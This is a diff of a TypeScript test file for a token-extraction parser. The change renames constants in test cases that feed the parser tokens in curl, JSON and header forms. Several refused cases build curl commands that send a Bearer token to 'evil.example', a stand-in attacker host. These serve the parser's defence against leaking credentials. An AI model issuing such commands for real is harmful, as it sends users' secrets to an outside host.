@@ -1,7 +1,7 @@
 import { type Case, refused, taken, values } from './case.ts'
 
-const GRAPHQL = 'https://gazelleapp.io/graphql/private/'
-const EVIL = 'https://evil.example/graphql/private/'
+const graphqlText = 'https://gazelleapp.io/graphql/private/'
+const evilText = 'https://evil.example/graphql/private/'
 const { TOKEN, REFRESH, KEY, JWT, LONG_TOKEN } = values
 const guide = { access_token: TOKEN, refresh_token: REFRESH, expires_in: 2_592_000, created_at: 1_737_334_800 }
 const json = JSON.stringify(guide)
@@ -63,7 +63,7 @@ export const assignments: readonly Case[] = [
   refused(
     'beside another address',
     { reason: 'other-host', form: 'row', host: 'evil.example' },
-    `const url = "${EVIL}"\nconst row = ${json}`,
+    `const url = "${evilText}"\nconst row = ${json}`,
   ),
   refused(
     'a value that is computed',
@@ -115,7 +115,7 @@ export const formatted: readonly Case[] = [
   taken(
     'HTML: cURL',
     'curl-bash',
-    `curl &#39;${GRAPHQL}?a=1&amp;b=2&#39; -H &#39;Authorization: Bearer {{TOKEN}}&#39;`,
+    `curl &#39;${graphqlText}?a=1&amp;b=2&#39; -H &#39;Authorization: Bearer {{TOKEN}}&#39;`,
   ),
   taken('HTML: twice', 'row', json.replaceAll('"', '&amp;quot;'), whole),
   taken('HTML: the token', 'bare-token', '&quot;{{TOKEN}}&quot;'),
@@ -125,7 +125,7 @@ export const formatted: readonly Case[] = [
   refused(
     'HTML: another host',
     { reason: 'other-host', form: 'curl-bash', host: 'evil.example' },
-    `curl &quot;${EVIL}&quot; -H &quot;Authorization: Bearer {{TOKEN}}&quot;`,
+    `curl &quot;${evilText}&quot; -H &quot;Authorization: Bearer {{TOKEN}}&quot;`,
   ),
   refused(
     'HTML: an address that turns into another',
@@ -172,7 +172,7 @@ export const broken: readonly Case[] = [
   taken('in JSON, twice', 'row', `{"access_token": "${head}\n${tail}", "refresh_\ntoken": "${REFRESH}"}`, {
     refreshToken: REFRESH,
   }),
-  taken('in a header of a command', 'curl-bash', `curl '${GRAPHQL}' -H 'Authorization: Bearer ${head}\n${tail}'`),
+  taken('in a header of a command', 'curl-bash', `curl '${graphqlText}' -H 'Authorization: Bearer ${head}\n${tail}'`),
   taken('in a quoted variable', 'variable', `GAZELLE_ACCESS_TOKEN="${head}\n${tail}"`),
   taken('in quotation marks', 'bare-token', `"${head}\n${tail}"`),
   taken('a header’s value under its name', 'header-line', `Authorization: Bearer\n${TOKEN}`),
@@ -221,7 +221,11 @@ export const unseen: readonly Case[] = [
   taken('a soft hyphen in JSON', 'row', `{"access_token": "${within('\u00ad')}"}`),
   taken('a zero-width space in a header', 'header-line', `Authorization: Bearer ${within('\u200b')}`),
   taken('a zero-width space in a name', 'row', `{"access\u200b_token": "{{TOKEN}}"}`),
-  taken('a soft hyphen in a command', 'curl-bash', `curl '${GRAPHQL}' -H 'Authorization: Bearer ${within('\u00ad')}'`),
+  taken(
+    'a soft hyphen in a command',
+    'curl-bash',
+    `curl '${graphqlText}' -H 'Authorization: Bearer ${within('\u00ad')}'`,
+  ),
   taken('a hyphen that does not break', 'bare-token', () => TOKEN.replaceAll('-', '\u2011')),
   refused('a no-break space', { reason: 'broken', form: 'bare-token' }, within('\u00a0')),
   refused(
